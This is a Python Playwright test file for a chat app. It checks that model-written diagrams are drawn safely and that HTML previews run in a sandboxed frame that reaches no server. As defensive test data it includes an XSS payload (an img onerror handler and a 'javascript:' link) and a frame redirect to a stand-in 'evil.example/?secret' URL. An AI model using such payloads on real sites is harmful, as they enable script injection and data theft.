"""Diagrams and previews: what a model wrote works in a frame that reaches neither the page nor any server."""

from __future__ import annotations

import json
import re
import socket
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Frame, expect

from tests.browser.test_markdown import OPEN, finished
from tests.support.chat_page import ChatPage
from tests.support.wire import Wire

FLOW = "```mermaid\nflowchart LR\n  A[Start] --> B{Ok?}\n  B -->|yes| C[Done]\n```\n"
SEQUENCE = "```mermaid\nsequenceDiagram\n  Ann->>Ben: Hello\n  Ben-->>Ann: Hi\n```\n"
WRONG = "```mermaid\nflowchart LR\n  A -->\n  --> [\n```\n"
HOSTILE = '```mermaid\nflowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```\n'
# Whatever a script in a preview tries; the names of what succeeded are in ``finished``.
ATTACK = Path(__file__).with_name("attack.html").read_text()


@pytest.fixture
def spy() -> Any:
    """A server on this machine that nobody asks anything, for TCP and UDP."""
    with socket.socket() as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        tcp.bind(("127.0.0.1", 0))
        tcp.listen()
        tcp.settimeout(0.5)
        udp.bind(("127.0.0.1", 0))
        udp.settimeout(0.5)
        yield tcp, udp


def show(tab: ChatPage, wire: Wire, text: str) -> None:
    """One complete answer."""
    wire.quiet = False
    tab.choose()
    wire.quiet = True
    wire.tell(OPEN | {"messages": [finished("a", text)]})
    expect(tab.answers).to_have_count(1)


def preview(tab: ChatPage, wire: Wire, language: str, code: str) -> Frame:
    """The frame with what the code makes."""
    show(tab, wire, f"````{language}\n{code}\n````\n")
    tab.page.get_by_test_id("preview").click()
    panel = tab.page.get_by_test_id("preview-panel")
    expect(panel.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
    handle = panel.locator("iframe").element_handle()
    frame = handle.content_frame() if handle else None
    assert frame is not None
    return frame


def test_diagrams_are_drawn(tab: ChatPage, wire: Wire) -> None:
    """As pictures in the colours of either theme; the source is beside it, and the SVG can be copied. No foreign server
    is asked, and the page's policy is kept. What could not be loaded is loaded for the next answer."""
    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    tab.oddities.allow("ERR_FAILED")
    tab.page.route(re.compile("(draw|typeset)-.*js$"), lambda route: route.abort())
    show(tab, wire, FLOW + "\n" + "$x^2$")
    expect(tab.page.locator(".code-note, .tex-message")).to_have_text([re.compile("could not be loaded")] * 2)
    tab.page.unroute_all()
    wire.tell(OPEN | {"messages": [finished("b", FLOW + "\n" + SEQUENCE + "\n" + "$x^2$")]})
    expect(tab.page.locator(".tex[data-state=done]")).to_have_count(1)
    expect(tab.page.locator(".diagram")).to_have_count(2)
    image = tab.page.get_by_role("img", name="Diagram: flowchart")
    expect(image).to_be_visible()
    sizes = "(image) => [image.complete, image.naturalWidth > 60, image.naturalHeight > 30]"
    tab.page.wait_for_function("() => [...document.querySelectorAll('.diagram img')].every((i) => i.naturalWidth)")
    assert image.evaluate(sizes) == [True, True, True]
    light = image.get_attribute("src")
    tab.page.get_by_role("button", name="theme").click()
    expect(image).to_be_visible()
    assert image.get_attribute("src") != light
    tab.page.get_by_role("button", name="Copy diagram as SVG").first.click()
    tab.page.wait_for_function("async () => (await navigator.clipboard.readText()).startsWith('<svg')")
    svg = tab.page.evaluate("navigator.clipboard.readText()")
    assert "Start" in svg
    assert "Done" in svg
    tab.page.locator(".diagram summary").first.click()
    expect(tab.page.locator(".diagram pre").first).to_contain_text("A[Start] --> B{Ok?}")


def test_a_diagram_that_is_wrong_is_source_with_the_reason(tab: ChatPage, wire: Wire) -> None:
    """And one after it is drawn."""
    show(tab, wire, WRONG + "\n" + FLOW)
    expect(tab.page.locator(".code-note")).to_contain_text("Parse error")
    expect(tab.page.locator(".diagram img").first).to_be_attached()
    expect(tab.page.locator("figure.code:not(.diagram) pre")).to_contain_text("--> [")


def test_a_hostile_diagram_is_a_picture(tab: ChatPage, wire: Wire) -> None:
    """Whatever it holds: an image runs nothing and loads nothing."""
    tab.oddities.allow("Content Security Policy")  # of the frame, in which it is drawn
    show(tab, wire, HOSTILE)
    expect(tab.page.locator(".diagram, .code-note")).to_have_count(1)
    assert tab.page.locator(".picture a, .picture svg, .thread script").count() == 0


def test_a_preview_reaches_nothing(tab: ChatPage, wire: Wire, spy: Any) -> None:
    """HTML is shown with its styles and its scripts run; none of them reaches the page, a server or another browser."""
    tcp, udp = spy
    tab.oddities.allow(".*")
    address, stun = (f"{s.getsockname()[0]}:{s.getsockname()[1]}" for s in spy)
    frame = preview(tab, wire, "html", ATTACK.replace("ADDRESS", f"http://{address}").replace("STUN", stun))
    expect(frame.locator("#there")).to_have_text("Here I am")
    expect(frame.locator("#there")).to_have_css("color", "rgb(1, 2, 3)")
    frame.wait_for_function("window.finished")
    assert frame.evaluate("window.finished") == []
    with pytest.raises(TimeoutError):
        tcp.accept()
    with pytest.raises(TimeoutError):
        udp.recv(1)
    assert tab.page.url.startswith(tab.url)
    expect(tab.composer).to_be_editable()
    assert [call for call in wire.said if "decide" in call or "send" in call] == []


@pytest.mark.parametrize("to", ["https://evil.example/?secret", "{url}/stream?query=spend", "{url}/c/x"])
def test_a_preview_goes_nowhere(tab: ChatPage, wire: Wire, to: str) -> None:
    """A frame that navigates itself is refused: elsewhere by the page's policy, here for want of an origin."""
    tab.oddities.allow("Content Security Policy", "frame", "403", "X-Frame-Options")
    requests: list[str] = []
    tab.page.on("response", lambda response: requests.append(f"{response.status} {response.url}"))
    frame = preview(tab, wire, "html", f"<script>location.href = {json.dumps(to.format(url=tab.url))}</script>")
    tab.page.wait_for_function("() => true")
    tab.paints(30)
    assert not [line for line in requests if "evil" in line or line.startswith("200") and "/stream" in line]
    assert frame.get_by_test_id("composer").count() == 0


def test_pictures_and_markdown_are_previewed(tab: ChatPage, wire: Wire) -> None:
    """SVG as it is drawn, Markdown as an answer shows it, with its formulas; Escape closes the panel."""
    frame = preview(
        tab, wire, "svg", '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="60"><circle r="9"/></svg>'
    )
    expect(frame.locator("svg circle")).to_be_attached()
    tab.page.keyboard.press("Escape")
    expect(tab.page.get_by_test_id("preview-panel")).to_have_count(0)
    expect(tab.page.get_by_test_id("preview")).to_be_focused()
    frame = preview(tab, wire, "markdown", "# Station\n\nA **bold** \\(x^2\\).\n\n```bash\nls\n```\n")
    expect(frame.locator("[data-level='1']")).to_have_text("Station")
    expect(frame.locator("strong")).to_have_text("bold")
    expect(frame.locator("math")).to_be_attached()
    expect(frame.locator("pre")).to_have_text("ls")
